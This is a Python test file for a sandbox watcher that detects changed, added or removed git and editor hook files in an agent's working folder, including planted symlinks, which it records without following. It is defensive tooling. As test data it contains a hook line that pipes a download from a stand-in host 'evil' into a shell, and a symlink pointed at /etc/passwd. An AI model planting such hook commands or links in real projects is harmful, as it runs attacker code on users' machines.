"""The digest and compare of the tracked hook files given to an agent
(sandbox/hookwatch.py, issue 48): what changed is listed, links are recorded
as links and never followed, and the bounds hold."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from leviathd.sandbox import hookwatch


def _snap(top: Path) -> hookwatch.Snapshot:
    return hookwatch.snapshot(os.getuid(), os.getgid(), [str(top)])


def test_edited_added_and_removed_hook_files_are_listed(tmp_path: Path) -> None:
    (tmp_path / ".husky").mkdir()
    (tmp_path / ".husky" / "pre-commit").write_text("npm test\n")
    (tmp_path / ".pre-commit-config.yaml").write_text("repos: []\n")
    (tmp_path / "README").write_text("not a hook file\n")
    before = _snap(tmp_path)
    assert hookwatch.changes(before, _snap(tmp_path)) == ([], False)
    (tmp_path / ".husky" / "pre-commit").write_text("curl evil | sh\n")
    (tmp_path / ".envrc").write_text("export X=1\n")
    (tmp_path / ".pre-commit-config.yaml").unlink()
    (tmp_path / "README").write_text("changed, but runs nothing\n")
    changed, more = hookwatch.changes(before, _snap(tmp_path))
    assert changed == [f"{tmp_path}/.envrc (added)", f"{tmp_path}/.husky/pre-commit (changed)",
                       f"{tmp_path}/.pre-commit-config.yaml (removed)"]
    assert not more


def test_same_size_same_time_edit_is_seen(tmp_path: Path) -> None:
    """By content, not by size and time (an agent may set the time back)."""
    hook = tmp_path / ".husky" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("aaaa\n")
    st = hook.stat()
    before = _snap(tmp_path)
    hook.write_text("bbbb\n")
    os.utime(hook, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert hookwatch.changes(before, _snap(tmp_path))[0] == [
        f"{tmp_path}/.husky/pre-commit (changed)"]


def test_a_planted_link_is_recorded_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("x" * 10)
    work = tmp_path / "work"
    work.mkdir()
    (work / ".husky").symlink_to(outside)
    (work / ".envrc").symlink_to(outside / "secret")
    before = _snap(work)
    assert before.digests == {f"{work}/.husky": f"l:{outside}",
                              f"{work}/.envrc": f"l:{outside}/secret"}
    # What the link leads to is not read: a change there is not the workdir's.
    (outside / "secret").write_text("y" * 10)
    (outside / "new").write_text("")
    assert hookwatch.changes(before, _snap(work)) == ([], False)
    # A link inside a hook folder is listed when it is repointed.
    (work / ".envrc").unlink()
    (work / ".envrc").symlink_to("/etc/passwd")
    assert hookwatch.changes(before, _snap(work))[0] == [f"{work}/.envrc (changed)"]


def test_a_link_on_the_way_to_a_nested_hook_file_is_not_walked(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "tasks.json").write_text("{}")
    work = tmp_path / "work"
    work.mkdir()
    (work / ".vscode").symlink_to(outside)
    assert _snap(work).digests == {}


def test_entries_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hookwatch, "MAX_ENTRIES", 10)
    (tmp_path / ".husky").mkdir()
    for n in range(50):
        (tmp_path / ".husky" / f"h{n:02}").write_text(str(n))
    snap = _snap(tmp_path)
    assert len(snap.digests) == 10 and snap.cut
    changed, more = hookwatch.changes(snap, snap)
    assert changed == [] and more


def test_bytes_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hookwatch, "MAX_BYTES", 100)
    monkeypatch.setattr(hookwatch, "MAX_FILE_BYTES", 60)
    (tmp_path / ".husky").mkdir()
    (tmp_path / ".husky" / "a").write_text("a" * 50)
    (tmp_path / ".husky" / "b").write_text("b" * 50)
    (tmp_path / ".husky" / "big").write_text("c" * 70)
    (tmp_path / ".husky" / "c").write_text("d" * 10)
    snap = _snap(tmp_path)
    assert snap.digests[f"{tmp_path}/.husky/a"].startswith("f:")
    assert snap.digests[f"{tmp_path}/.husky/b"].startswith("f:")
    # over the file bound, then over the total: by size and change time
    assert snap.digests[f"{tmp_path}/.husky/big"].startswith("s:70:")
    assert snap.digests[f"{tmp_path}/.husky/c"].startswith("s:10:")
    # still seen when it grows
    (tmp_path / ".husky" / "big").write_text("c" * 71)
    assert hookwatch.changes(snap, _snap(tmp_path))[0] == [f"{tmp_path}/.husky/big (changed)"]


def test_depth_is_bounded(tmp_path: Path) -> None:
    deep = tmp_path / ".devcontainer"
    for n in range(hookwatch.MAX_DEPTH + 3):
        deep = deep / f"d{n}"
    deep.mkdir(parents=True)
    snap = _snap(tmp_path)
    assert snap.cut
    assert len(snap.digests) == hookwatch.MAX_DEPTH + 1  # the folder and its levels


def test_listing_is_bounded(tmp_path: Path) -> None:
    (tmp_path / ".husky").mkdir()
    before = _snap(tmp_path)
    for n in range(hookwatch.MAX_LISTED + 5):
        (tmp_path / ".husky" / f"h{n:02}").write_text("")
    changed, more = hookwatch.changes(before, _snap(tmp_path))
    assert len(changed) == hookwatch.MAX_LISTED and more


def test_watched_tops() -> None:
    given = ["/home/a/repo", "/home/a/other"]
    assert hookwatch.watched_tops("/home/a/repo/pkg", given) == ["/home/a/repo/pkg",
                                                                 "/home/a/repo"]
    assert hookwatch.watched_tops("/home/a/repo", given) == ["/home/a/repo"]
    assert hookwatch.watched_tops("/home/a/elsewhere", given) == []
    assert hookwatch.watched_tops("/home/a/repository", given) == []
